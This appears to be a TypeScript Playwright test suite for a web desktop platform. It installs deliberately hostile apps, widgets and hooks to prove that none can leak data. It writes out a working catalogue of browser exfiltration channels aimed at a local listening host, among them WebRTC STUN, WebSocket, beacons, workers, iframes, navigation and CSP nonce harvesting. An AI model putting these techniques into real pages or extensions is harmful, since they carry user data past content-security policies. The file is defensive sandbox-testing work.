import type { Frame, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, onTestFinished, test } from 'vitest'
import { appPackage } from '../support/app-package.ts'
import { startWorld, type DesktopWorld } from '../support/desktop.ts'
import { listeningPost, type ListeningPost } from '../support/listening-post.ts'

/** Tells a port by UDP, as far as there is something to do it with. */
const bySTUN = (udp: number) => `
  const Peer = globalThis.RTCPeerConnection ?? globalThis.webkitRTCPeerConnection
  const peer = new Peer({ iceServers: [{ urls: 'stun:127.0.0.1:${udp}' }] })
  peer.createDataChannel('out')
  void peer.setLocalDescription()`

/** Tells by every other way that leaves the page where it is, `preconnect` and `dns-prefetch` aside, which say nothing over the connection. `attacked` is true in the end. */
const byEverything = ({ udp, tcp }: ListeningPost) => `{
  const url = 'http://127.0.0.1:${tcp}/told?secret'
  const add = (name, values, text = '') => {
    const element = Object.assign(document.createElement(name), values)
    element.textContent = text
    document.body.append(element)
    return element
  }
  const ways = [
    () => {${bySTUN(udp)}},
    () => ['ready', 'closed'].reduce((one, end) => (one[end].catch(() => undefined), one), new WebTransport('https://127.0.0.1:${udp}/told')),
    () => new WebSocket('ws://127.0.0.1:${tcp}/told'),
    () => globalThis['fetch'](url, { mode: 'no-cors' }),
    () => navigator.sendBeacon(url, 'secret'),
    () => fetchLater(url, { activateAfter: 0 }),
    () => new EventSource(url),
    () => import(url),
    () => new Worker(url),
    () => (new Worker(URL.createObjectURL(new Blob(['importScripts("' + url + '")'], { type: 'text/javascript' }))).onerror = (event) => event.preventDefault()),
    () => navigator.serviceWorker.register(url),
    () => window['open'](url),
    () => (new Image().src = url),
    () => add('img', { srcset: url }),
    () => add('video', { poster: url, src: url }),
    () => add('script', { src: url }),
    () => add('iframe', { src: url }),
    () => add('object', { data: url }),
    () => add('embed', { src: url }),
    () => add('style', {}, '@import "' + url + '"; body { background: url("' + url + '") }'),
    () => ['prefetch', 'preload', 'modulepreload', 'stylesheet', 'icon', 'manifest', 'prerender'].forEach(
      (rel) => add('link', { rel, as: 'image', href: url })),
    () => add('script', { type: 'speculationrules' }, JSON.stringify({
      prefetch: [{ source: 'list', urls: [url] }], prerender: [{ source: 'list', urls: [url] }] })),
    () => add('a', { href: '#here', ping: url }).click(),
    () => add('form', { action: url, target: '_blank' }).submit(),
  ]
  for (const way of ways) try { void Promise.resolve(way()).catch(() => undefined) } catch {}
  globalThis.attacked = true
}`

/** Makes realms anew, in which a script of the page itself and one of markup try the same. */
const byFrames = (script: string, { udp }: ListeningPost) => `{
  const inner = ${JSON.stringify(`try { ${bySTUN(udp)} } catch {}`)}
  const nonce = document.querySelector('script')?.nonce ?? ''
  const page = '<body>' + ${JSON.stringify(script)} + '<script nonce="' + nonce + '">' + inner + '<' + '/script><img src=x onerror="' + inner.replaceAll('"', '&quot;') + '">'
  const made = [{ srcdoc: page }, { src: 'javascript:' + inner }, { src: 'data:text/html,' + encodeURIComponent(page) },
    { src: URL.createObjectURL(new Blob([page], { type: 'text/html' })) }]
  for (const values of made) document.body.append(Object.assign(document.createElement('iframe'), values))
  const blank = document.createElement('iframe')
  document.body.append(blank)
  try { globalThis.RTCPeerConnection = blank.contentWindow.RTCPeerConnection; ${bySTUN(udp)} } catch {}
  try { document.body.insertAdjacentHTML('beforeend', '<template shadowrootmode=open>' + page + '</template>') } catch {}
}`

/** Leads the page away, which ends it, in each way in turn. */
const byLeaving = (tcp: number) => [
  `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0; url=http://127.0.0.1:${tcp}/told' }))`,
  `document.body.append(Object.assign(document.createElement('form'), { id: 'leaving', action: 'http://127.0.0.1:${tcp}/told' })), document.getElementById('leaving').submit()`,
  `Object.assign(document.createElement('a'), { href: 'http://127.0.0.1:${tcp}/told', download: 'told' }).click()`,
  `void (location.href = 'http://127.0.0.1:${tcp}/told')`,
]

const PAGE = '<!doctype html><html lang="en"><title>Clock</title><body><main id="root"><p>It is late.</p></main>'

let world: DesktopWorld
beforeAll(async () => {
  world = await startWorld()
})
afterAll(() => world?.close())

/** Sockets of one test alone: what another test's frames may still send is not heard there. */
async function ownPost(): Promise<ListeningPost> {
  const post = await listeningPost()
  onTestFinished(() => post.close())
  return post
}

/** Installs an app whose script tries every way out. */
const installAttack = (post: ListeningPost) =>
  world.server.local.domain.desktop.releases.install(
    appPackage({
      'index.html': `${PAGE}<script src="attack.js"></script></html>`,
      'attack.js': `'use strict'
        globalThis.isStrict = (function () { return this === undefined })()
        // Tabs are theirs to open after a click, and this browser asks for none.
        window.open = () => null
        ;${byEverything(post)}
        if (location.href === 'about:srcdoc') parent.postMessage('ran', '*')
        else {
          addEventListener('message', ({ data }) => data === 'ran' && (globalThis.nested = true))
          ${byFrames(`<script src="${world.server.url}/apps/clock/attack.js"></script>`, post)}
        }`,
    }),
  )

/** Proves that the sockets hear a page without protection, and by that that what was sent before has had its time. */
async function control(page: Page): Promise<void> {
  const other = await listeningPost()
  try {
    const open = await page.context().newPage()
    await open.goto(`http://127.0.0.1:${other.tcp}/`)
    const loaded = other.heard.requests
    await open.evaluate(`{${bySTUN(other.udp)}; new Image().src = 'http://127.0.0.1:${other.tcp}/'}`)
    await expect.poll(() => Math.min(other.heard.packets, other.heard.requests - loaded)).toBeGreaterThan(0)
    await open.close()
  } finally {
    await other.close()
  }
}

const silence = { packets: 0, requests: 0 }

/** Leads a frame away again and again: what it asked for is refused, or the page that stands there then is another. */
async function leave(frame: Frame, post: ListeningPost): Promise<void> {
  for (const way of byLeaving(post.tcp)) await frame.evaluate(way).catch(() => undefined)
}

test('no app in a frame tells anything to anybody but this server: not by WebRTC, nor by realms it makes, links, forms or leaving', async () => {
  const post = await ownPost()
  await installAttack(post)
  const visited = await world.enter(await world.person())
  const clock = await visited.open('clock', 'Clock')
  await expect
    .poll(() => clock.evaluate('[globalThis.attacked, globalThis.nested, globalThis.isStrict]'))
    .toEqual([true, true, true])
  await visited.page.getByRole('navigation', { name: 'Dock' }).getByRole('button', { name: 'Notes' }).click()
  const notes = await visited.app('notes')
  await notes.getByText('No notes yet').waitFor()
  await notes.evaluate(byEverything(post))
  await notes.evaluate(byFrames('', post))
  await control(visited.page)
  expect(post.heard).toEqual(silence)
  await leave(clock, post)
  await leave(notes, post)
  await control(visited.page)
  expect(post.heard).toEqual(silence)
})

test('no component tells anything to anybody: neither a widget, by its markup or scripts, nor hooks', async () => {
  const post = await ownPost()
  const person = await world.person()
  const { components } = world.server.local.domain.desktop
  const save = (component_id: string, component_type: 'js' | 'widget', code: string) =>
    components.save({ user: person.id, allowsCode: true }, { component_id, component_type, code, metadata: {} })
  const inner = `<script>try { ${bySTUN(post.udp)} } catch {}</script>`
  await save(
    'widget',
    'widget',
    `<link rel="prefetch" href="http://127.0.0.1:${post.tcp}"><iframe srcdoc="${inner.replaceAll('"', '&quot;')}"></iframe>
     <script>${byEverything(post)}</script>
     <script>
       // The policy is told to whoever violates it, and what it trusts with it.
       addEventListener('securitypolicyviolation', ({ originalPolicy }) => {
         const nonce = /'nonce-([^']+)'/.exec(originalPolicy)?.[1]
         if (nonce === undefined || globalThis.hasNonce) return
         globalThis.hasNonce = true
         const frame = document.createElement('iframe')
         frame.srcdoc = ${JSON.stringify(inner).replaceAll('</', '<\\/')}.replace('<script', '<script nonce="' + nonce + '"')
         document.body.append(frame)
       })
       ${byFrames('', post).replaceAll('</script>', '<\\/script>')}
       globalThis.framed = true
     </script>`,
  )
  await save(
    'hooks',
    'js',
    `window.__svcHooks.dock = () => {
       try { ${bySTUN(post.udp)} } catch {}
       for (const way of [() => window['fet' + 'ch']('http://127.0.0.1:${post.tcp}/'), () => new WebSocket('ws://127.0.0.1:${post.tcp}/'),
         () => window['import' + 'Scripts']('http://127.0.0.1:${post.tcp}/'), () => new WebTransport('https://127.0.0.1:${post.udp}/').ready])
         try { void Promise.resolve(way()).catch(() => undefined) } catch {}
       return { labels: { notes: 'Asked' } }
     }`,
  )
  const { page } = await world.enter(person)
  await page.getByRole('navigation', { name: 'Dock' }).getByRole('button', { name: 'Asked' }).waitFor()
  const element = page.getByRole('region', { name: 'Widget widget' }).locator('iframe')
  const frame = (await (await element.elementHandle())!.contentFrame())!
  await expect
    .poll(() => frame.evaluate('[globalThis.attacked, globalThis.framed]').catch(() => []))
    .toEqual([true, true])
  await control(page)
  expect(post.heard).toEqual(silence)
  await leave(frame, post)
  await control(page)
  expect(post.heard).toEqual(silence)
})
